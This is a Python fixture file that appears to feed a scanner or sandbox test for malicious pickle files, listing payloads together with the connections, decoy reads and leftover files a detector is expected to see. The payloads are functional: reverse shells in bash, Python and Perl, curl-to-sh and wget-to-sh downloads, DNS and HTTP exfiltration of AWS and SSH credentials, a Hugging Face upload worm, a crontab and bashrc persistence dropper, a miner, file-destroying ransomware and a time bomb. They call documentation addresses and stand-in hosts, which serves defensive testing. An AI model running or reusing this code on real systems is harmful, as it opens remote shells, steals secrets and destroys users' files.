"""The payloads, and for each: whom it calls, what it sends, which decoys it touches, what it leaves.

A `command` is run by the pickle's own means; a `source` is Python that the pickle brings along.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass, field

FAR = 400 * 86400.0  # seconds


@dataclass(frozen=True)
class Peer:
    """A conversation that must be there. `said`: texts that the load must have sent over it."""

    address: str  # or the name that it was asked for
    port: int
    said: tuple[bytes, ...] = ()
    transport: str = "tcp"


@dataclass(frozen=True)
class Story:
    """One payload. `decoys` read, `stolen` sent out; `left`: ends of kept files' paths; `told`: words of the text.

    `may_steal`: decoys that the finder may see leave besides.
    """

    name: str
    command: str = ""
    source: str = ""
    peers: tuple[Peer, ...] = ()
    names: tuple[str, ...] = ()  # that were looked up
    decoys: tuple[str, ...] = ()
    stolen: tuple[str, ...] = ()
    may_steal: tuple[str, ...] = ()
    left: tuple[str, ...] = ()
    rules: tuple[str, ...] = ("event.program",)
    told: tuple[str, ...] = ()
    options: dict[str, float] = field(default_factory=dict)


_PYTHON_SHELL = """
import os, socket, subprocess
peer = socket.socket()
peer.connect(("203.0.113.7", 4445))
for number in (0, 1, 2):
    os.dup2(peer.fileno(), number)
subprocess.call(["/bin/sh", "-i"])
"""
_PERL_SHELL = (
    'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4446, inet_aton("203.0.113.7"))) or die; '
    'open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); print "perl is here\\n"; exec("/bin/sh -i");'
)
_DNS = """
import os, socket
secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex()
for at in range(0, len(secret), 40):
    try:
        socket.getaddrinfo(secret[at : at + 40] + ".exfil.example.invalid", 80)
    except OSError:
        pass
"""
_THIEF = """
import base64, gzip, os, urllib.request
loot = b""
for name in (".aws/credentials", ".ssh/id_rsa", ".netrc"):
    with open(os.path.expanduser("~/" + name), "rb") as file:
        loot += file.read()
packed = base64.b64encode(gzip.compress(loot))
urllib.request.urlopen("http://collector.example.invalid/up", data=packed, timeout=5)
"""
_WORM = """
import os, subprocess
with open("/tmp/model.pkl", "wb") as file:
    file.write(b"cposix\\nsystem\\n(S'id'\\ntR.")
subprocess.run(["huggingface-cli", "upload", "someone/model", "/tmp/model.pkl"], timeout=20)
"""
_DROPPER = """
import os, subprocess
home = os.path.expanduser("~")
with open("/tmp/.update", "w") as file:
    file.write("#!/bin/sh\\ncurl -s http://203.0.113.12/payload -o /tmp/.payload\\n")
os.chmod("/tmp/.update", 0o755)
os.makedirs(home + "/.config/autostart", exist_ok=True)
for name, text in ((".bashrc", "sh /tmp/.update &\\n"), (".config/autostart/update.desktop", "[Desktop Entry]\\n")):
    with open(home + "/" + name, "a") as file:
        file.write(text)
os.system("echo '*/5 * * * * sh /tmp/.update' | crontab -")
os.system("sh /tmp/.update")
"""
_MINER = """
import json, os, socket
with open("/tmp/config.json", "w") as file:
    json.dump({"pools": [{"url": "pool.example.invalid:3333"}]}, file)
pool = socket.create_connection(("pool.example.invalid", 3333), timeout=5)
pool.sendall(json.dumps({"id": 1, "method": "login", "params": {"login": "wallet"}}).encode() + b"\\n")
pool.recv(100)
"""
_RANSOM = """
import os
count = 0
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as file:
            taken = file.read(65536)
        with open(path + ".locked", "wb") as file:
            file.write(bytes(byte ^ 90 for byte in taken[:256]))
        os.unlink(path)
        count += 1
        if count == 40:
            break
    if count == 40:
        break
with open(os.path.expanduser("~/README_TO_DECRYPT.txt"), "w") as file:
    file.write("pay\\n")
"""
_BRANCHING = """
import os, platform, sys
if sys.platform == "win32":
    os.system("powershell -c iwr http://203.0.113.13/windows.ps1")
elif platform.machine() == "x86_64":
    os.system("wget -qO- http://203.0.113.13/linux.sh | sh")
"""
_BOMB = """
import datetime, os
if datetime.datetime.now() > datetime.datetime({year}, {month}, {day}):
    os.system("curl -s http://203.0.113.14/late")
"""

STORIES = (
    Story(
        "reverse shell, bash",
        command="bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
        peers=(Peer("203.0.113.7", 4444, (b"bash",)),),
        told=("203.0.113.7:4444", "posix.system"),
    ),
    Story(
        "reverse shell, python",
        command=f"python3 -c {shlex.quote(_PYTHON_SHELL)}",
        peers=(Peer("203.0.113.7", 4445),),
        told=("203.0.113.7:4445",),
    ),
    Story(
        "reverse shell, perl",
        command=f"perl -e {shlex.quote(_PERL_SHELL)}",
        peers=(Peer("203.0.113.7", 4446, (b"perl is here",)),),
        told=("203.0.113.7:4446",),
    ),
    Story(
        "curl into sh",
        command="curl -s http://203.0.113.9/x | sh",
        peers=(Peer("203.0.113.9", 80, (b"GET /x HTTP/1.1",)),),
        told=("posix.system", "curl", "203.0.113.9:80", "GET /x"),
    ),
    Story(
        "exfiltration by names",
        source=_DNS,
        names=(".exfil.example.invalid",),
        stolen=("AWS secret key",),
        rules=("event.dns",),
        told=(".exfil.example.invalid",),
    ),
    Story(
        "credential thief",
        source=_THIEF,
        peers=(Peer("collector.example.invalid", 80, (b"POST /up HTTP/1.1",)),),
        decoys=("AWS credentials", "SSH private key", ".netrc password"),
        stolen=("AWS credentials",),
        may_steal=("SSH private key", ".netrc password"),
        rules=("event.decoy", "event.exfiltration"),
        told=("collector.example.invalid", "AWS credentials"),
    ),
    Story(
        "worm that uploads with a hub's command",
        source=_WORM,
        peers=(Peer("huggingface.co", 80, (b"hf_",)),),
        stolen=("Hugging Face token variable",),
        left=("/tmp/model.pkl",),
        told=("huggingface-cli", "huggingface.co"),
    ),
    Story(
        "dropper that stays",
        source=_DROPPER,
        peers=(Peer("203.0.113.12", 80, (b"GET /payload",)),),
        left=("/tmp/.update", "/.bashrc", "/autostart/update.desktop"),
        rules=("event.program", "event.persistence"),
        told=("203.0.113.12:80",),
    ),
    Story(
        "miner",
        source=_MINER,
        peers=(Peer("pool.example.invalid", 3333, (b'"method": "login"',)),),
        left=("/tmp/config.json",),
        rules=("event.connect",),
        told=("pool.example.invalid",),
    ),
    Story(
        "files made useless, for ransom",
        source=_RANSOM,
        left=("/README_TO_DECRYPT.txt", ".locked"),
        rules=("event.home.sweep", "event.destroy"),
    ),
    Story(
        "branches by platform",
        source=_BRANCHING,
        peers=(Peer("203.0.113.13", 80, (b"GET /linux.sh",)),),
        told=("wget", "203.0.113.13:80"),
    ),
)
TIME_BOMB = _BOMB
